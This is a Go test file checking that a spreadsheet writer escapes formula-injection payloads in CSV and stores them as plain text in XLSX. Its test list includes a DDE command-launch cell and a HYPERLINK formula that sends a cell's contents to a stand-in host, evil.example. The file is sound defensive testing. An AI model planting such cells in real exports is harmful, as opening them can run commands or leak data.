package sheet

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
)

// dangerous are cells a spreadsheet program would run or read as a
// formula if written as they are: one for every first character the
// guard knows, and the audit's examples.
var dangerous = []string{
	`=cmd|' /C calc'!A0`,
	`=HYPERLINK("http://evil.example/?x="&A1,"点我")`,
	"+1+2", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1", "\n=1+1",
	"＝１＋１", "＋1", "－1", "＠SUM(1)",
}

func TestEveryDangerousPrefixIsTextInCSV(t *testing.T) {
	t.Parallel()
	var buf bytes.Buffer
	w, err := New(&buf, CSV)
	if err != nil {
		t.Fatal(err)
	}
	for _, d := range dangerous {
		if err := w.WriteText(d, "张三"); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Write(int64(-5), 3.25, "plain", "a=b"); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	raw := buf.String()
	if !strings.HasPrefix(raw, "\uFEFF") || !strings.Contains(raw, "\r\n") {
		t.Fatalf("no BOM or no CRLF: %q", raw[:20])
	}
	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(raw, "\uFEFF")))
	r.FieldsPerRecord = -1
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, d := range dangerous {
		// (encoding/csv reads a lone CR inside quotes as nothing.)
		if got := recs[i][0]; got != "'"+strings.ReplaceAll(d, "\r", "") {
			t.Errorf("%q written as %q, want it behind an apostrophe", d, got)
		}
		if recs[i][1] != "张三" {
			t.Errorf("a harmless cell changed: %q", recs[i][1])
		}
	}
	last := recs[len(dangerous)]
	if strings.Join(last, "|") != "-5|3.25|plain|a=b" {
		t.Fatalf("numbers and harmless text changed: %q", last)
	}
}

// In a workbook, text is a string cell, never a formula: it keeps its exact value.
func TestEveryDangerousPrefixIsTextInXLSX(t *testing.T) {
	t.Parallel()
	var buf bytes.Buffer
	w, err := New(&buf, XLSX)
	if err != nil {
		t.Fatal(err)
	}
	for _, d := range dangerous {
		if err := w.Write(d, int64(7)); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	sheet := f.GetSheetName(0)
	for i, d := range dangerous {
		cell, _ := excelize.CoordinatesToCellName(1, i+1)
		if formula, _ := f.GetCellFormula(sheet, cell); formula != "" {
			t.Errorf("%q became the formula %q", d, formula)
		}
		if typ, _ := f.GetCellType(sheet, cell); typ != excelize.CellTypeInlineString {
			t.Errorf("%q is a cell of type %v, want an inline string", d, typ)
		}
		if v, _ := f.GetCellValue(sheet, cell); v != d {
			t.Errorf("%q read back as %q", d, v)
		}
		num, _ := excelize.CoordinatesToCellName(2, i+1)
		if typ, _ := f.GetCellType(sheet, num); typ == excelize.CellTypeInlineString {
			t.Errorf("a number was written as text")
		}
	}
}

func TestAnUnknownFormatIsAnError(t *testing.T) {
	t.Parallel()
	if _, err := New(&bytes.Buffer{}, "ods"); err == nil {
		t.Fatal("no error")
	}
}
